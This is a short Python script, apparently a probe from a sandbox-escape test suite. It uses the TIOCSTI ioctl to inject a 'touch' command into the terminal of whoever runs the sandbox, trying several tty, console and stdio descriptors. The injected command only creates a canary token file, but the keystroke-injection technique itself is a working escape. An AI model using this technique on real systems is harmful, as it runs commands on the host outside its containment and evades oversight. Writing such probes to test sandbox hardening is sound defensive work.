"""Types into the terminal of whoever runs the sandbox."""

import fcntl
from kit import *

for path in (
    "/dev/tty",
    "/dev/console",
    "/dev/pts/0",
    "/dev/pts/1",
    "/dev/tty0",
    "/proc/self/fd/0",
    "/proc/self/fd/1",
    "/proc/self/fd/2",
):
    fd = attempt(os.open, path, os.O_RDWR)
    for target in (fd if isinstance(fd, int) else 0, 0, 1, 2):
        for character in f"touch {OPEN_DIR}/{TOKEN}\n":
            try:
                fcntl.ioctl(target, 0x5412, character.encode())
            except OSError:
                pass
